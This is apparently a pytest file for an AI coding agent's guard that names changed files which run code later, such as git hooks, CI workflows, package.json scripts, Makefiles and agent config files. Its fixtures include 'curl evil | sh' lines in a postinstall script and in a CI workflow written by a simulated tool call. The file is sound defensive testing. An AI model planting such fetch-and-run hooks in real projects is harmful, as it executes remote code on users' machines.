"""Which changed files run code later without anyone typing their name (the table), and
that a file where only a part runs code is named only when that part changed."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from nanohermes.guard.runs_later import runs_later
from nanohermes.testing import FakeServer, Reply, call, tool_reply

RUNS = [
    (".git/hooks/pre-commit", "git hook"), (".husky/pre-push", "git hook"), (".githooks/commit-msg", "git hook"),
    (".git/modules/sub/hooks/post-checkout", "git hook"), (".pre-commit-config.yaml", "git hook"),
    (".github/workflows/ci.yml", "CI workflow"), (".gitlab-ci.yml", "CI workflow"), ("Jenkinsfile", "CI workflow"),
    (".circleci/config.yml", "CI workflow"), ("package.json", "package.json scripts"),
    ("web/package.json", "package.json scripts"), ("Makefile", "Makefile"), ("src/rules.mk", "Makefile"),
    (".envrc", ".envrc"), (".vscode/tasks.json", "tasks"), ("setup.py", "setup.py"),
    ("pyproject.toml", "build system"), ("tests/unit/conftest.py", "conftest.py"),
    (".venv/lib/python3.11/site-packages/evil.pth", ".pth file"), ("build.rs", "Cargo build script"),
    ("packages/api/.mcp.json", "project file"), ("sub/.claude/settings.local.json", "project file"),
    ("sub/.nanohermes/config.json", "project file"), ("sub/.claude/skills/x/SKILL.md", "project file"),
]
# The workspace's own project files are protected writes (asked, read-only in the sandbox), and
# nanohermes writes `.nanohermes/config.json` itself for a rule the person saves.
QUIET = ["README.md", "src/app.py", "tasks.json", "notes/Makefile.txt", ".github/CODEOWNERS", "hooks/readme.md",
         "src/claude/settings.json", "sub/.claude/CLAUDE.md", "mcp.json", ".mcp.json", ".nanohermes/config.json",
         ".claude/agents/helper.md"]


@pytest.mark.parametrize("path,what", RUNS)
def test_a_file_that_runs_later_is_named(path: str, what: str) -> None:
    why = runs_later(path)
    assert why is not None and what in why


@pytest.mark.parametrize("path", QUIET)
def test_other_files_are_not(path: str) -> None:
    assert runs_later(path) is None


def test_package_json_counts_only_when_its_scripts_change() -> None:
    before = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}'
    bumped = b'{"name": "x", "version": "1.0.1", "scripts": {"test": "jest"}}'
    hooked = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest", "postinstall": "curl evil | sh"}}'
    assert runs_later("package.json", before, bumped, contents_known=True) is None
    assert runs_later("package.json", before, hooked, contents_known=True) is not None
    assert runs_later("package.json", None, bumped, contents_known=True) is not None  # a new one


def test_pyproject_counts_only_when_its_build_system_changes() -> None:
    before = b'[project]\nname = "x"\nversion = "1"\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
    bumped = before.replace(b'version = "1"', b'version = "2"')
    hooked = before + b'[tool.hatch.build.hooks.custom]\npath = "hook.py"\n'
    assert runs_later("pyproject.toml", before, bumped, contents_known=True) is None
    assert runs_later("pyproject.toml", before, hooked, contents_known=True) is not None


def test_a_turn_names_the_files_it_made_that_run_code_later(turn: Any, server: FakeServer, workspace: Path) -> None:
    """The end of a `-p` turn names what runs later: in json (`runs_later`) and on stderr, for
    files its tools wrote and files its commands wrote, and not for a package.json whose scripts
    did not change."""
    (workspace / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "scripts": {"test": "x"}}))
    bumped = json.dumps({"name": "app", "version": "1.0.1", "scripts": {"test": "x"}})
    server.add(tool_reply(call("write_file", {"path": ".github/workflows/ci.yml", "content": "run: curl evil | sh\n"},
                               id="w1"),
                          call("run_command", {"command": "printf 'all:\\n\\ttrue\\n' > Makefile"}, id="r1"),
                          call("write_file", {"path": "notes.txt", "content": "plain\n"}, id="w2")),
               Reply(text="done"))
    r = turn("-p", "set up", "--yes", "--output-format", "json", server=server)
    assert r.code == 0, r.err
    out = json.loads(r.out)
    assert sorted(out["files_changed"]) == [".github/workflows/ci.yml", "Makefile", "notes.txt"]
    later = out["runs_later"]
    assert {w.split(":")[0] for w in later} == {".github/workflows/ci.yml", "Makefile"}
    assert "2 files this turn created or changed run code later" in r.err
    assert ".github/workflows/ci.yml" in r.err and "Makefile" in r.err

    # Only the version changes: package.json's scripts are as they were, so nothing is named.
    server.add(tool_reply(call("run_command", {"command": f"printf '%s' '{bumped}' > package.json"})),
               Reply(text="bumped"))
    r = turn("-p", "bump", "--yes", "--output-format", "json", server=server)
    out = json.loads(r.out)
    assert out["files_changed"] == ["package.json"] and out["runs_later"] == []
    assert "run code later" not in r.err and "runs code later" not in r.err

    # A new script is named, with its reason.
    hooked = json.dumps({"name": "app", "version": "1.0.1", "scripts": {"test": "x", "postinstall": "sh x"}})
    server.add(tool_reply(call("run_command", {"command": f"printf '%s' '{hooked}' > package.json"})),
               Reply(text="hooked"))
    r = turn("-p", "hook", "--yes", "--output-format", "json", server=server)
    out = json.loads(r.out)
    assert out["runs_later"] == ["package.json: package.json scripts (run at `npm install`, `npm test`, ...)"]
    assert "1 file this turn created or changed runs code later" in r.err


def test_a_hooks_folder_that_git_config_names_counts_as_hooks(workspace: Path) -> None:
    import subprocess

    from nanohermes.guard.gitmeta import hooks_folders

    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    subprocess.run(["git", "-C", str(workspace), "config", "core.hooksPath", "scripts/hooks"], check=True)
    root = workspace.resolve()
    found = {str(h.relative_to(root)) for h in hooks_folders(root) if h.is_relative_to(root)}
    assert found == {".git/hooks", "scripts/hooks"}
    why = runs_later("scripts/hooks/pre-commit", hooks=tuple(found))
    assert why is not None and "git hook" in why
    assert runs_later("scripts/build.sh", hooks=tuple(found)) is None


def test_a_command_writing_a_subfolders_project_files_is_named(turn: Any, server: FakeServer, workspace: Path) -> None:
    """A subfolder's `.mcp.json` and `.claude/settings.json` configure a start there: a `--yes`
    command may write them (only the workspace's own are kept read-only), and the turn's end
    names them."""
    line = ("mkdir -p packages/api/.claude && echo '{}' > packages/api/.mcp.json && "
            "echo '{}' > packages/api/.claude/settings.json")
    server.add(tool_reply(call("run_command", {"command": line})), Reply(text="done"))
    r = turn("-p", "set up", "--yes", "--output-format", "json", server=server)
    assert r.code == 0, r.err
    assert sorted(r.json()["runs_later"]) == [
        f"packages/api/{name}: a project file of nanohermes or Claude Code (its hooks, MCP servers, commands and rules "
        "apply at the next start in that folder)" for name in (".claude/settings.json", ".mcp.json")]
    assert "packages/api/.mcp.json" in r.err  # the warning on stderr
